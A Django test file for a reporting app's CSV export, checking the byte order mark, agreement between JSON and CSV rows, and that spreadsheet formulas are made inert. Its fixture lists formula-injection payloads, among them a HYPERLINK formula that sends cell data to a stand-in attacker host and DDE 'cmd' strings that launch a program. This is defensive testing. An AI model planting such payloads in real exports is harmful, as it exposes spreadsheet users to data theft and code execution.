"""CSV files: a byte order mark, formulas made inert, the same rows as the JSON."""

from __future__ import annotations

import csv
import io
from typing import Any

from django.urls import reverse

from pontio.directory.models import Organisation
from pontio.reports.catalogue import REPORTS
from pontio.reports.csvexport import escape_cell
from tests.base import make_organisation
from tests.reports.helpers import MARCH, ReportsTestCase

HOSTILE_NAMES = {
    "6812101": '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "6812102": "+cmd|' /C calc'!A0",
    "6812103": "-2+3+cmd|' /C calc'!A0",
    "6812104": "@SUM(1+1)*cmd|' /C calc'!A0",
    "6812105": "\t=1+1",
    "6812106": "\r=1+1",
}


def parse(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def as_cell(value: Any) -> str:
    return "" if value is None else str(value)


class CsvExportTests(ReportsTestCase):
    def test_the_file_is_utf8_with_a_byte_order_mark(self) -> None:
        response = self.api(self.users["la_user"], "usage", format="csv", **MARCH)
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
        content = response.getvalue()
        self.assertTrue(content.startswith(b"\xef\xbb\xbf"))
        self.assertIn(
            'filename="usage_2025-03-01_2025-03-31.csv"',
            response["Content-Disposition"],
        )
        self.assertIn(b"Ysgol Pen y Bryn", content)

    def test_cells_that_a_spreadsheet_would_run_are_made_inert(self) -> None:
        for code, name in HOSTILE_NAMES.items():
            make_organisation(Organisation.Kind.SCHOOL, code, name)
        response = self.api(self.users["la_user"], "usage", format="csv", **MARCH)
        names = {row[1]: row[2] for row in parse(response.getvalue())[1:]}
        for code, name in HOSTILE_NAMES.items():
            with self.subTest(code=code):
                self.assertEqual(names[code], "'" + name)
        # The JSON answer carries the names as they are.
        rows = self.rows(self.users["la_user"], "usage", **MARCH)
        self.assertEqual(
            {
                row["school"]: row["name"]
                for row in rows
                if row["school"] in HOSTILE_NAMES
            },
            HOSTILE_NAMES,
        )

    def test_ordinary_values_are_left_alone(self) -> None:
        for value, expected in (
            ("Ysgol y Wern", "Ysgol y Wern"),
            ("2025-03-10T09:00:00+00:00", "2025-03-10T09:00:00+00:00"),
            (-3, -3),
            (0, 0),
            (None, ""),
            ("a=b", "a=b"),
        ):
            with self.subTest(value=value):
                self.assertEqual(escape_cell(value), expected)

    def test_the_page_download_is_the_api_file(self) -> None:
        self.login(self.users["la_user"])
        page = self.client.get(
            reverse("reports:csv", args=["school"]),
            {
                "start_day": "1",
                "start_month": "3",
                "start_year": "2025",
                "end_day": "31",
                "end_month": "3",
                "end_year": "2025",
            },
        )
        api = self.api(self.users["la_user"], "school", format="csv", **MARCH)
        self.assertEqual(page.status_code, 200)
        self.assertEqual(page.getvalue(), api.getvalue())

    def test_a_download_with_wrong_choices_goes_back_to_the_page(self) -> None:
        self.login(self.users["la_user"])
        response = self.client.get(
            reverse("reports:csv", args=["usage"]), {"start_day": "99"}
        )
        self.assertEqual(response.status_code, 302)
        self.assertTrue(
            response["Location"].startswith(reverse("reports:report", args=["usage"]))
        )


class JsonCsvAgreementTests(ReportsTestCase):
    def test_every_report_gives_the_same_rows_in_json_and_csv(self) -> None:
        for name in REPORTS:
            for user in (self.users["la_dba"], self.users["central_admin"]):
                with self.subTest(report=name, user=user.username):
                    query = (
                        {**MARCH, "las": "662,681"} if name == "la-cluster" else MARCH
                    )
                    data = self.api(user, name, **query).json()
                    table = parse(
                        self.api(user, name, format="csv", **query).getvalue()
                    )
                    self.assertEqual(len(table[0]), len(data["columns"]))
                    self.assertEqual(
                        table[1:],
                        [
                            [as_cell(row[key]) for key in data["columns"]]
                            for row in data["rows"]
                        ],
                    )
                    self.assertTrue(data["rows"], name)
